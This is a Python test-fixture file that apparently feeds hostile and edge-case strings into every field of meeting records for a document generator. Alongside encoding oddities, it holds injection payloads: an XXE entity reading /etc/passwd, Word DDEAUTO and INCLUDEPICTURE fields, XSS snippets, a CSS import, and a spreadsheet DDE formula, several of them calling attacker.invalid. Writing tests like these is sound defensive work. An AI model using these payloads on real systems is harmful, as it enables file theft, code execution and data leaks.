"""Texts that would like to be more than text, in the shape of meetings."""

from __future__ import annotations

from typing import Any

TEXTS: dict[str, str] = {
    "xml": '</w:t></w:r></w:p><w:p><w:r><w:t>&lt;&amp;&#x41;]]><!-- --><?xml version="1.0"?>',
    "entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "field": '{ INCLUDEPICTURE "http://attacker.invalid/a.png" \\d } { DDEAUTO c:\\\\windows cmd }',
    "html": '<script>alert(1)</script><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>',
    "style": "</style><style>@import url(http://attacker.invalid)</style>",
    "formula": '=HYPERLINK("http://attacker.invalid";"bấm")+cmd|\' /C calc\'!A0',
    "controls": "a\x00b\x01c\x08d\x0be\x0cf\x1bg\x7fh\x85i\x9fj\u2028k\u2029l\r\nm\rn",
    "directions": "\u202eđảo ngược\u202c \u2066cô lập\u2069 \u200fphải\u200e \u061c",
    "surrogates": "\ud83d một nửa \udc00 \ufffe \uffff",
    "emoji": "👍🏽 👨‍👩‍👧 🇻🇳",
    "no_space": "ộ" * 100_000,
    "many_words": "giải phóng mặt bằng " * 5_000,
    "marks": "a" + "\u0301\u0323\u0302" * 500,
    "decomposed": "Tie\u0302\u0301ng Vie\u0323\u0302t",
    "patterns": "{number} {0} %s %(a)s ${x} {{ns}} {ns} \\u0041",
    "khmer": "ភូមិ ដំបូន្មាន",
    "tabs": "một\thai\t\tba",
    "spaces": "\u00a0\u2003 \u3000 ",
    "empty": "",
}


def short_meeting(text: str) -> dict[str, Any]:
    """A meeting with `text` as what one person said."""
    return {"items": [{"kind": "opinion", "text": text}]}


def meeting(text: str) -> dict[str, Any]:
    """A meeting with `text` wherever a person can write."""
    person = {"name": text, "position": text}
    kinds = ("report", "task", "vote", text)
    return {
        "kind": text,
        "org": {"parent": text, "name": text, "symbol": text},
        "cohost": {"name": text, "symbol": text},
        "cochair": person,
        "number": text,
        "title": text,
        "place": text,
        "starts_at": text,
        "ends_at": text,
        "chair": person,
        "secretary": person,
        "attendance": {"absent": [{"role": text, "reason": text}], "groups": {text: 3}},
        "items": [{"kind": kind, "by_role": text, "text": text, "owner": text, "due_on": text} for kind in kinds],
        "conclusion": text,
        "recipients": [text, text],
    }
